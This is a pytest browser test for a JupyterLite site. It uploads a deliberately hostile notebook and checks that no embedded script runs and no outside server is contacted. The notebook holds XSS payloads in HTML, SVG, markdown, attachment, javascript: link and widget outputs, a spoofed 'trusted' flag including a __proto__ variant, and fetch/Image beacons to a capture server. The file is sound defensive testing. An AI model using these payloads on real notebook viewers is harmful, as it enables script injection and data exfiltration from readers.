"""Somebody else's notebook on the built site, written as an attacker would: a reader uploads it to
lite/ and opens it. No cell is run.
"""

import json
from base64 import b64encode
from types import SimpleNamespace

import pytest
from browser import tab
from distribution import Distribution, serving

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("site")]
WAIT = 120_000  # milliseconds, for a slow machine
WORD = {"trusted": True}
INHERITED = {"__proto__": WORD}
PLAIN = {"text/plain": "what is shown in its place"}
STATE = "application/vnd.jupyter.widget-state+json"
VERSION = {"version_major": 2, "version_minor": 0}


class Elsewhere(Distribution):
    """A server that notes what it is asked for."""

    asked = []

    def do_GET(self):
        self.asked.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_HEAD = do_POST = do_GET


def deed(name, address):
    """JavaScript that reads what is kept here, and sends it off in two ways."""
    return (
        f"window.ran = [...(window.ran ?? []), '{name}']; "
        f"new Image().src = '{address}{name}'; fetch('{address}{name}');"
    )


def widget(script):
    """The state of a widget that shows outputs, which it trusts."""
    html = {"text/html": f'<img src="x:" onerror="{script}">'}
    outputs = [{"output_type": "display_data", "metadata": {}, "data": html}]
    return {
        "model_name": "OutputModel",
        "model_module": "@jupyter-widgets/output",
        "model_module_version": "1.0.0",
        "state": {"outputs": outputs},
    }


def notebook(said, address):
    """A notebook whose cells say `said`, with a script in every place that may hold one."""

    def attack(name):
        return deed(name, address)

    inside = "parent.ran = [...(parent.ran ?? []), 'frame']"
    outputs = [
        {"text/html": f"<b>seen</b><script>{attack('html')}</script>"},
        {"text/html": f'<img src="x:" onerror="{attack("handler")}">'},
        {"text/html": f'<iframe srcdoc="<script>{inside}</script>"></iframe>'},
        {"text/html": f'<img src="{address}picture">'},
        {"application/javascript": attack("javascript")},
        {"image/svg+xml": f"<svg><script>{attack('svg')}</script></svg>"},
        {"application/vnd.vega.v5+json": {"data": {"url": f"{address}vega"}}},
        {"text/markdown": f'![]({address}said) <svg onload="{attack("said")}">'},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "w"} | VERSION},
    ]
    text = (
        f'# Foreign\n\n<img src="x:" onerror="{attack("text")}"> ![]({address}text)\n\n'
        f"[link](javascript:top.ran=1) ![](attachment:a.svg)\n\n"
        f"```{{iframe}} {address}iframe\n```\n\n```{{figure}} {address}figure\n```\n"
    )
    drawn = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{attack('attached')}'/>"
    attached = {"a.svg": {"image/svg+xml": b64encode(drawn.encode()).decode()}}
    cells = [
        {"cell_type": "markdown", "id": "a", "source": text, "attachments": attached},
        {"cell_type": "code", "id": "b", "source": "1", "execution_count": 1}
        | {
            "outputs": [
                {"output_type": "display_data", "metadata": {}, "data": data | PLAIN}
                for data in outputs
            ]
        },
    ]
    return {
        "cells": [cell | {"metadata": said} for cell in cells],
        "metadata": {
            "kernelspec": {"name": "python", "display_name": "Python"},
            "language_info": {"name": "python"},
            "widgets": {STATE: {"state": {"w": widget(attack("widget"))}} | VERSION},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


@pytest.fixture
def bring(browser, origin, tmp_path):
    """Uploads a notebook whose cells say something, and opens it: what ran, and who was asked."""

    def bring(said, without=(), **options):
        server = type("Fresh", (Elsewhere,), {"asked": []})
        with serving(server) as address, tab(browser, origin, [], **options) as page:
            file = tmp_path / "brought.ipynb"
            file.write_text(json.dumps(notebook(said, address)), "utf-8")
            for name in without:
                page.context.route(f"**/{name}", lambda it: it.fulfill(body=""))
            page.goto(f"{origin}/lite/tree/index.html")
            page.get_by_text("from elsewhere runs nothing").wait_for(timeout=WAIT)
            with page.expect_file_chooser(timeout=WAIT) as choosing:
                upload = "[data-command='filebrowser:upload'], .jp-id-upload"
                page.locator(upload).first.click(timeout=WAIT)
            choosing.value.set_files(file)
            page.locator(".jp-DirListing-itemName", has_text="brought").wait_for()
            page.goto(f"{origin}/lite/notebooks/index.html?path=brought.ipynb")
            page.locator(".jp-RenderedHTML", has_text="seen").wait_for(timeout=WAIT)
            page.locator(".jp-OutputArea-child").nth(8).wait_for(state="attached")
            page.wait_for_timeout(2000)  # for what a script would need
            ran = page.evaluate("window.ran ?? []")
            links = page.locator(".jp-Notebook a[href^='javascript:']")
            ran += links.evaluate_all("links => links.map((it) => it.href)")
        return SimpleNamespace(ran=ran, asked=server.asked)

    return bring


@pytest.mark.parametrize("said", [WORD, INHERITED], ids=["word", "inherited"])
def test_what_a_reader_brings_runs_nothing_and_asks_nobody(bring, said):
    found = bring(said)
    assert not found.ran and not found.asked


def test_the_policy_holds_where_the_word_is_believed(bring):
    found = bring(WORD, without=["untrusted.js"])
    assert not found.ran and not found.asked


@pytest.mark.parametrize("said", [WORD, INHERITED], ids=["word", "inherited"])
def test_the_word_is_not_believed_where_a_browser_knows_no_policy(bring, said):
    assert not bring(said, bypass_csp=True).ran


def test_without_both_the_notebook_does_run_and_send(bring):
    """So that the tests above are known to see it."""
    found = bring(WORD, without=["untrusted.js"], bypass_csp=True)
    assert {"html", "handler"} <= set(found.ran)
    assert {"/html", "/picture"} <= set(found.asked)
